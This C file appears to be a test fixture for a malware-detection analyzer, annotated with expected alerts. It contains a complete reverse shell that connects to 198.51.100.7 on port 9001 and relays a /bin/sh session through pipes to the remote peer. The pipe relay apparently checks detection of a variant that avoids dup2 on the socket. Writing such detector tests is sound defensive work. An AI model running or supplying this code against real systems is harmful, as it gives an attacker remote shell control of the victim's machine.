/*
 * behavior.reverse-shell through pipes: no dup2 of the socket. A child runs
 * /bin/sh with a pipe as its standard input and another as its output; the
 * parent connects out and copies what the peer sends into the shell's
 * input pipe and the shell's output back, so the peer drives the shell.
 * Known gap: `read` on a descriptor passed in (here the shell's output
 * pipe) is taken as file content, since the pipe is only known across the
 * call, so copying it to the socket is reported as exfiltration.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <unistd.h>

struct shell_io {
    int in_w;   /* the shell reads this pipe as stdin */
    int out_r;  /* and writes its output into this one */
};

static int start_shell(struct shell_io *io)
{
    int in[2], out[2];
    if (pipe(in) != 0 || pipe(out) != 0)
        return -1;
    if (fork() == 0) {
        dup2(in[0], STDIN_FILENO);
        dup2(out[1], STDOUT_FILENO);
        dup2(out[1], STDERR_FILENO);
        execlp("sh", "sh", (char *)NULL); // $ Alert[behavior.reverse-shell]
        _exit(1);
    }
    io->in_w = in[1];
    io->out_r = out[0];
    return 0;
}

static void pump(int from, int to)
{
    char chunk[1024];
    ssize_t n = read(from, chunk, sizeof chunk);
    if (n > 0)
        write(to, chunk, (size_t)n); // $ SPURIOUS: Alert[taint.exfiltration]
}

static void forward_peer(int sock, const struct shell_io *io)
{
    char chunk[1024];
    ssize_t n = recv(sock, chunk, sizeof chunk, 0);
    if (n > 0)
        write(io->in_w, chunk, (size_t)n);
}

int main(void)
{
    struct sockaddr_in peer;
    struct shell_io io;
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(9001);
    inet_pton(AF_INET, "198.51.100.7", &peer.sin_addr);
    if (connect(sock, (struct sockaddr *)&peer, sizeof peer) != 0 || start_shell(&io) != 0)
        return 1;
    for (;;) {
        fd_set rd;
        FD_ZERO(&rd);
        FD_SET(sock, &rd);
        FD_SET(io.out_r, &rd);
        if (select(FD_SETSIZE, &rd, NULL, NULL, NULL) < 0)
            break;
        if (FD_ISSET(sock, &rd))
            forward_peer(sock, &io);
        if (FD_ISSET(io.out_r, &rd))
            pump(io.out_r, sock);
    }
    return 0;
}
